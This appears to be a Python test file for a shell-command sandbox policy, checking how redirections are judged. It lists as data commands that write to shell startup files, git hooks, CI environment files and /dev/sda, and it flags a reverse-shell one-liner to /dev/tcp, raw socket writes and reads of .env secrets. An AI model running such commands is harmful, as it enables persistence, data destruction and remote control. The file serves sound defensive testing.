"""Redirections (B4)."""

from . import allowed, kinds, stopped, told, words

OUTSIDE = """
echo x > ../y
echo x >> ~/.zshrc
echo x >| /etc/x
echo x &> /tmp/x
echo x &>> $HOME/.profile
echo x 2> /etc/x
cat a >& ../x
cat a >&../x
cat a 1<>../x
ls 1>../x
cat a > "$HOME/.bashrc"
cat a > $TMPDIR/x
cat a > ${OUT}
cat a > $(mktemp)
cat a > `pwd`/../x
{ ls; } > ../x
(ls) > ../x
if true; then ls; fi > ../x
for f in a b; do echo $f; done > ~/list
while false; do :; done > ../x
(( 1 )) > ../x
f() { cat a; } > ../x; f
exec > ../x; echo hi
cat a | (cat > ../x)
> ../x
a=1 > ../x
cat <<E > ../x⏎text⏎E
cat > ../x <<'E'⏎text⏎E
echo x > .git/hooks/y
echo x > .GIT/config
cat > .vscode/settings.json <<'E'⏎{}⏎E
echo KEY=1 >> "$GITHUB_ENV"
echo x > /dev/sda
"""


def test_nothing_is_written_outside_or_to_what_acts_later() -> None:
    assert allowed(OUTSIDE) == []


INSIDE = """
echo x > a.txt
echo x >> src/b
ls 2>/dev/null
ls > /dev/null 2>&1
ls &>/dev/null
ls 2>&1 | cat
exec 2>&1; ls
cat < a | wc
cat <<< text
cat <<E⏎text⏎E
cat <<'E' > a⏎$(rm x)⏎E
tee a <<'E' >/dev/null⏎x⏎E
cat > src/a.py <<'E'⏎print(1)⏎E
> a
: > app.log
ls >&2
ls 2>&-
cat a | tee /dev/stderr
echo x > "$(pwd)/a"
for f in src/*.py; do sed 's/a/b/' "$f" > "$f.new"; done
"""


def test_inside_and_to_the_devices_that_keep_nothing_it_is_free() -> None:
    assert stopped(INSIDE) == []


def test_a_socket_is_never_right() -> None:
    for command in (
        "cat a > /dev/tcp/x.example/80",
        "exec 3<>/dev/tcp/x.example/1; cat <&3",
        "bash -i >& /dev/tcp/10.0.0.1/4 0>&1",
        "echo x > /dev/udp/x/53",
    ):
        assert "raw_socket" in kinds(command)


def test_what_a_redirection_reads_counts() -> None:
    assert "secret .env" in told("wc -l < .env")
    assert "secret .env" in told("while read l; do echo $l; done < .env")
    assert "secret .env" in told("x=$(< .env)")
    assert "net_read x.example" in told("cat < <(curl https://x.example)")


def test_words_behind_a_redirection_belong_to_the_command() -> None:
    assert words("rm >log x") == [("rm", "x")]
    assert words("cat <<E a b\nx\nE")[0] == ("cat", "a", "b")
    assert words("2>log rm x") == [("rm", "x")]
    assert words(">log rm x") == [("rm", "x")]


def test_the_last_command_of_a_list_has_its_redirections() -> None:
    assert "write_out /home/dev/x" in told("cd .. && echo a > x")
    assert "write_out /tmp/x" in told("cd /tmp && ls | cat > x")


def test_overwriting_everything_a_pattern_stands_for_is_deleting() -> None:
    assert "delete ./…" in told('find . -type f | while read -r f; do : > "$f"; done')
    assert "delete *.txt" in told("for f in *.txt; do echo > $f; done")
    assert stopped("for f in *.txt; do echo x >> $f; done") == []
